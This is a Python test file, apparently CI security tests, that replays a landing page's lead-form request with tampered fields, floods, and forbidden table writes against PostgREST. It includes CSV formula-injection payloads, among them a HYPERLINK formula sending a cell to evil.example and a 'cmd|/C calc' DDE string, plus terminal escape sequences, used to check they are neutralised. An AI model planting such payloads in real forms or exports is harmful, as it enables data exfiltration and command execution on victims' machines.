"""A hostile visitor, in CI: the landing page the studio published, driven in Chromium against the real
PostgREST; what the page sends is captured, then replayed tampered as a stranger's script would, and
each case asserts what the database kept.

Real parts: `cli bundle` and `cli publish` (the landing page recorded with the service role), the local
Hub serving the Space, Chromium, the gateway and PostgREST over the migrated PostgreSQL, `cli leads`
reading the ledger back. A second "client" is a second loopback address.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from typing import Any

import httpx
import psycopg
import pytest

from services import cli
from tests.conftest import HUB_TOKEN
from tests.support import jwt
from tests.support.browser import BROWSER, chromium_page
from tests.support.public_forms import clear, rows
from tests.support.streamlit_server import ROOT

pytestmark = BROWSER
PRIVACY = "https://brightrun.ai/privacy"
SPACE = "brightrun/financial-eq-billboard-eq-100"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
CALC = "+1+cmd|'/C calc'!A0"


@pytest.fixture
def env(local_hub, supabase, monkeypatch, tmp_path) -> dict[str, str]:
    """The billboard's EQ-100 landing Space published as the owner publishes it; its page recorded."""
    clear(supabase.db_uri)
    with psycopg.connect(supabase.db_uri, autocommit=True) as db:  # no release of another test in the history
        for table in ("dataset_releases", "traction_snapshots", "access_decisions"):
            db.execute(f"DELETE FROM {table}")
    values = {"HF_TOKEN": HUB_TOKEN, "HF_ENDPOINT": local_hub.url, "SUPABASE_URL": supabase.url,
              "SUPABASE_KEY": supabase.key("service_role"), "SUPABASE_PUBLISHABLE_KEY": supabase.key("anon"),
              "HF_HUB_DISABLE_XET": "1"}
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    out = tmp_path / "release"
    assert cli.main(["bundle", "demo", "--preset", "billboard", "--out", str(out), "--privacy-url", PRIVACY,
                     "--no-image"]) == 0
    assert cli.main(["publish", str(out / "eq-100.zip")]) == 0
    return values


def _visit(local_hub, email: str, marketing: bool) -> tuple[dict[str, Any], str]:
    """A visitor fills in the form; the request the page sent (URL, headers, body) and what it said."""
    sent: dict[str, Any] = {}
    with chromium_page(1200, 1600) as page:
        page.on("request", lambda r: sent.update(url=r.url, headers=r.headers, body=r.post_data)
                if "/rpc/submit_lead" in r.url else None)
        page.goto(f"{local_hub.url}/spaces/{SPACE}")
        space = page.frame_locator("#space")
        space.locator("#lead input[name=email]").fill(email)
        space.locator("#lead input[name=name]").fill("Grace")
        space.locator("#lead input[name=delivery_consent]").check()
        if marketing:
            space.locator("#lead input[name=marketing_consent]").check()
        space.locator("#lead button[type=submit]").click()
        space.locator("#result").filter(has_text=".").wait_for(timeout=15_000)
        said = space.locator("#result").inner_text()
    return sent, said


class Replay:
    """The page's own request, sent again with changes, from any loopback address."""

    def __init__(self, sent: dict[str, Any]) -> None:
        self.url = sent["url"]
        self.headers = {k: v for k, v in sent["headers"].items() if k.lower() in {"apikey", "authorization",
                                                                                   "content-type"}}
        self.body = json.loads(sent["body"])

    def send(self, change: dict[str, Any] | None = None, *, body: Any = None, source: str = "127.0.0.2",
             headers: dict[str, str] | None = None, client: httpx.Client | None = None) -> httpx.Response:
        data = json.dumps(body if body is not None else {**self.body, **(change or {})})
        if client is not None:
            return client.post(self.url, content=data, headers={**self.headers, **(headers or {})})
        with httpx.Client(transport=httpx.HTTPTransport(local_address=source), timeout=30) as one:
            return one.post(self.url, content=data, headers={**self.headers, **(headers or {})})


def _leads(supabase) -> list[dict[str, Any]]:
    return rows(supabase.db_uri, "leads")


def test_tampered_replays_of_the_pages_own_request_store_one_honest_row_each(env, local_hub, supabase, tmp_path):
    sent, said = _visit(local_hub, "grace@example.org", marketing=False)
    assert said.startswith("Thank you.")
    assert sent["url"] == f"{supabase.url}/rest/v1/rpc/submit_lead"
    replay = Replay(sent)
    assert jwt.verify(replay.headers["apikey"], supabase.jwt_secret)["role"] == "anon"  # all a stranger has
    (first,) = _leads(supabase)
    assert (first["email"], first["marketing_consent"], first["space_id"], first["tier"]) == (
        "grace@example.org", False, SPACE, "eq-100")

    # Forged columns, time, id: no such argument, nothing stored.
    for forged in ({"id": "00000000-0000-4000-8000-000000000000"}, {"created_at": "2099-01-01T00:00:00Z"}):
        assert replay.send({**forged, "email": "x@example.org"}).status_code == 404
    # Consent forged for someone else: her address again, the tier respelt, marketing yes.
    assert replay.send({"email": " GRACE@example.org", "tier": "eq-100 ", "marketing_consent": True}).status_code \
        == 204
    # A made-up page, another tier, another wording: refused.
    assert replay.send({"space_id": "brightrun/made-up", "email": "y@example.org"}).status_code == 410
    assert replay.send({"tier": "full", "email": "y@example.org"}).status_code == 410
    assert replay.send({"consent_version": "2099", "email": "y@example.org"}).status_code == 400
    # An array: one submission at most.
    many = [{**replay.body, "email": f"bulk{i}@example.org"} for i in range(50)]
    assert replay.send(body=many, source="127.0.0.3").status_code == 204
    # Padded text: normalised before its limit, stored short.
    assert replay.send({"email": "pad@example.org", "name": "Pad" + "\u2003" * 100_000 + "\u200b"},
                       source="127.0.0.4").status_code == 204
    kept = _leads(supabase)
    assert [(r["email"], r["marketing_consent"], r["tier"]) for r in kept] == [
        ("grace@example.org", False, "eq-100"), ("bulk0@example.org", False, "eq-100"),
        ("pad@example.org", False, "eq-100")]
    assert kept[2]["name"] == "Pad"

    # The count oracle: a known address and a new one get the same answer.
    oracle = {"Prefer": "count=exact"}
    known = replay.send({"email": "grace@example.org"}, headers=oracle, source="127.0.0.5")
    new = replay.send({"email": "new@example.org"}, headers=oracle, source="127.0.0.5")
    assert (known.status_code, known.content, known.headers.get("content-range")) == (
        new.status_code, new.content, new.headers.get("content-range"))

    # Anon reads: refused.
    for table in ("leads", "feedback", "landing_pages"):
        read = httpx.get(f"{supabase.url}/rest/v1/{table}?select=*", headers=replay.headers)
        assert read.status_code == 401 and read.json()["code"] == "42501", table

    # The ledger: her consent unchanged, and her address marked as not verified.
    out = subprocess.run([sys.executable, "-m", "services.cli", "leads", "--csv", str(tmp_path / "leads.csv")],
                         cwd=ROOT, env=dict(os.environ), capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    table = {r["email"]: r for r in csv.DictReader(io.StringIO((tmp_path / "leads.csv").read_text()))}
    assert (table["grace@example.org"]["marketing_consent"], table["grace@example.org"]["address"]) == (
        "no", "not verified")
    assert "not verified" in out.stdout


def test_formula_names_reach_the_csv_as_text_and_escapes_never_reach_the_terminal(env, local_hub, supabase, tmp_path):
    sent, _ = _visit(local_hub, "grace@example.org", marketing=True)
    replay = Replay(sent)
    for i, name in enumerate((HYPERLINK, CALC, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "Eve\x1b]0;owned\x07\x1b[2J")):
        assert replay.send({"email": f"eve{i}@example.org", "name": name}, source=f"127.0.0.{10 + i}").status_code \
            == 204
    out = subprocess.run([sys.executable, "-m", "services.cli", "leads", "--csv", str(tmp_path / "leads.csv")],
                         cwd=ROOT, env=dict(os.environ), capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout
    cells = [cell for row in csv.reader(io.StringIO((tmp_path / "leads.csv").read_text())) for cell in row]
    names = {c for c in cells if "calc" in c or "HYPERLINK" in c or c.startswith(("'-2", "-2"))}
    assert names == {"'" + HYPERLINK, "'" + CALC, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"}
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]  # no live formula


def test_a_flood_from_one_client_stores_the_limit_then_another_visitor_still_gets_in(env, local_hub, supabase):
    sent, _ = _visit(local_hub, "grace@example.org", marketing=False)
    replay = Replay(sent)
    statuses = []
    with httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.2"), timeout=30) as flood:
        for i in range(300):
            statuses.append(replay.send({"email": f"bot{i}@example.org"}, client=flood,
                                        headers={"X-Forwarded-For": f"198.51.100.{i % 250}"}).status_code)
    assert statuses.count(204) == 5 and statuses.count(429) == 295
    assert replay.send({"email": "human@example.org"}, source="127.0.0.3").status_code == 204
    assert len(_leads(supabase)) == 1 + 5 + 1
    # The browser's own address floods too: the visitor is told, in words, and nothing is stored.
    for i in range(4):
        replay.send({"email": f"again{i}@example.org"}, source="127.0.0.1")
    before = len(_leads(supabase))
    _, said = _visit(local_hub, "late@example.org", marketing=False)
    assert said == "Too many tries, please wait a minute and try again."
    assert len(_leads(supabase)) == before
    with psycopg.connect(supabase.db_uri) as db:
        assert db.execute("SELECT count(*) FROM leads WHERE email = 'late@example.org'").fetchone()[0] == 0


def test_nothing_the_page_holds_can_write_elsewhere(env, local_hub, supabase):
    sent, _ = _visit(local_hub, "grace@example.org", marketing=False)
    replay = Replay(sent)
    base = sent["url"].rsplit("/rpc/", 1)[0]
    for table, row in (("leads", {"email": "x@example.org", "delivery_consent": True, "consent_version": "v",
                                  "tier": "eq-100"}),
                       ("landing_pages", {"space_id": "evil/page", "tier": "eq-100", "consent_version": "v",
                                          "feedback_consent_version": "v"}),
                       ("traction_snapshots", {"repo_id": SPACE})):
        answer = httpx.post(f"{base}/{table}", json=row, headers=replay.headers)
        assert answer.status_code in (401, 403) and answer.json()["code"] == "42501", (table, answer.text)
    assert [r["email"] for r in _leads(supabase)] == ["grace@example.org"]
